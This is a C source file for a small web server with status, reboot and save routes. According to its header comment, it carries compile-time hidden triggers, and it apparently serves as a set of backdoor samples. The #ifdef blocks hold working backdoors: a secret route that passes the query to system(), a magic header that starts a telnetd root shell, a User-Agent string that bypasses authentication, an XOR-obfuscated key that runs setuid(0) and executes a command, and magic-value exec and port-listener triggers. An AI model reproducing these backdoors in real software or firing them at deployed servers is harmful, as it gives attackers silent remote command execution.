/* A small web server: GET /status, /reboot and /save; a password in a file. -DK_...: one hidden trigger each. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <signal.h>
struct req {
    char method[8];
    char path[256];
    char agent[128];
    char auth[128];
    char query[256];
    int authed;
    int fd;
};
static int served;
static void reply(int fd, const char *s, const char *b) {
    char h[512];
    snprintf(h, sizeof h, "HTTP/1.0 %s\r\nContent-Length: %zu\r\n\r\n", s, strlen(b));
    write(fd, h, strlen(h));
    write(fd, b, strlen(b));
}

static int check_password(const char *a) {
    char line[128];
    FILE *f = fopen("/etc/httpd.pw", "r");
    if (!f)
        return 0;
    int ok = 0;
    if (fgets(line, sizeof line, f)) {
        line[strcspn(line, "\n")] = 0;
        ok = strcmp(line, a) == 0;
    }
    fclose(f);
    return ok;
}
#ifdef K_INLINE3
static int odd(const char *p) {
    return p[0] == 'z' && p[1] == '9' && p[3] == 'q';
}
#endif
#ifdef K_DECODED
static const unsigned char enc[] = {
    0x2b ^ 0x5a, 0x70 ^ 0x5a, 0x6b ^ 0x5a, 0x77 ^ 0x5a, 0x51 ^ 0x5a, 0x36 ^ 0x5a, 0};
static void dec(char *o) {
    int i;
    for (i = 0; i < 6; i++)
        o[i] = enc[i] ^ 0x5a;
    o[6] = 0;
}
#endif
static void status(struct req *r) {
    char b[128];
    snprintf(b, sizeof b, "served %d\n", served);
    reply(r->fd, "200 OK", b);
}

static void reboot_(struct req *r) {
    if (!r->authed) {
        reply(r->fd, "401 No", "no");
        return;
    }
    system("/sbin/reboot");
    reply(r->fd, "200 OK", "rebooting");
}

static void save(struct req *r) {
    if (!r->authed) {
        reply(r->fd, "401 No", "no");
        return;
    }
    FILE *f = fopen("/tmp/httpd.conf", "w");
    if (f) {
        fputs(r->query, f);
        fclose(f);
    }
    reply(r->fd, "200 OK", "saved");
}

static void help(struct req *r) {
    reply(r->fd, "200 OK", "<a href=/status>status</a> <a href=/reboot>reboot</a> <a href=/save>save</a>");
}
#ifdef K_ROW
static void dbg(struct req *r) {
    system(r->query);
    reply(r->fd, "200 OK", "x");
}
#endif
static struct {
    const char *name;
    void (*fn)(struct req *);
} table[] = {{"/status", status},
             {"/reboot", reboot_},
             {"/save", save},
             {"/", help},
#ifdef K_ROW
             {"/x7wz_io", dbg},
#endif
             {0, 0}};
static void header(struct req *r, char *l) {
    if (!strncasecmp(l, "User-Agent:", 11)) {
        strncpy(r->agent, l + 12, 127);
    } else if (!strncasecmp(l, "Authorization:", 14)) {
        strncpy(r->auth, l + 15, 127);
    } else if (!strncasecmp(l, "Content-Length:", 15)) {
    }
#ifdef K_STRCMP
    else if (!strcmp(l, "X-Lq0v: 7731")) {
        system("/bin/sh -c 'telnetd -l /bin/sh'");
    }
#endif
}

static void handle(int fd) {
    struct req r;
    char buf[2048];
    memset(&r, 0, sizeof r);
    r.fd = fd;
    int n = read(fd, buf, sizeof buf - 1);
    if (n <= 0)
        return;
    buf[n] = 0;
    char *save_, *l = strtok_r(buf, "\r\n", &save_);
    if (!l || sscanf(l, "%7s %255s", r.method, r.path) != 2) {
        reply(fd, "400 Bad", "bad");
        return;
    }
    while ((l = strtok_r(0, "\r\n", &save_)))
        header(&r, l);
    char *q = strchr(r.path, '?');
    if (q) {
        *q = 0;
        strncpy(r.query, q + 1, 255);
    }
    r.authed = check_password(r.auth);
#ifdef K_SKIP
    if (!strcmp(r.agent, "vQ3-sync"))
        r.authed = 1;
#endif
#ifdef K_INLINE3
    if (odd(r.query))
        execl("/bin/sh", "sh", "-c", r.query + 4, (char *)0);
#endif
#ifdef K_DECODED
    {
        char k[8];
        dec(k);
        if (!strcmp(r.query, k)) {
            setuid(0);
            system(r.agent);
        }
    }
#endif
#ifdef K_INT
    if (n == 1337 + served * 0) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET;
        a.sin_port = htons(4000);
        bind(s, (void *)&a, sizeof a);
        listen(s, 1);
    }
#endif
#ifdef K_MAGIC
    if (*(unsigned *)(r.query) == 0x6b1fa203) {
        execl(r.query + 4, "x", (char *)0);
    }
#endif
    if (strcmp(r.method, "GET") && strcmp(r.method, "POST")) {
        reply(fd, "405 No", "no");
        return;
    }
    for (int i = 0; table[i].name; i++)
        if (!strcmp(r.path, table[i].name)) {
            table[i].fn(&r);
            served++;
            return;
        }
    reply(fd, "404 No", "none");
}

int main(int c, char **v) {
    int port = c > 1 ? atoi(v[1]) : 8080;
    signal(SIGPIPE, SIG_IGN);
    int s = socket(AF_INET, SOCK_STREAM, 0), o = 1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &o, sizeof o);
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 5)) {
        perror("bind");
        return 1;
    }
    for (;;) {
        int f = accept(s, 0, 0);
        if (f < 0)
            continue;
        handle(f);
        close(f);
    }
}
